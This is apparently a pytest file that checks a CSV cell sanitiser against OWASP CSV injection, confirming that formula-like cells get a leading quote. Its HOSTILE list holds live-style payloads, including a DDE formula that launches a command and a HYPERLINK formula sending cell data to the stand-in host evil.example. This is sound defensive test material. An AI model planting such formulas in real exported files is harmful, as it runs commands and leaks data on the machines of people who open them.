"""CSV cells that a spreadsheet would run as formulas are written as text (OWASP CSV injection)."""

import csv
import io
from decimal import Decimal

import pytest

from creditbank.spreadsheets import csv_writer, safe_cell

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_gets_a_leading_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["北京市", "a=b", "", "1+1", "O'Brien"])
def test_plain_text_is_unchanged(value: str) -> None:
    assert safe_cell(value) == value


def test_numbers_and_none() -> None:
    assert safe_cell(Decimal("-1.5")) == "-1.5"
    assert safe_cell(-3) == "-3"
    assert safe_cell(None) == ""


def test_writer_round_trip_keeps_every_cell_inert() -> None:
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow(HOSTILE)
    [row] = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ["'" + text for text in HOSTILE]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
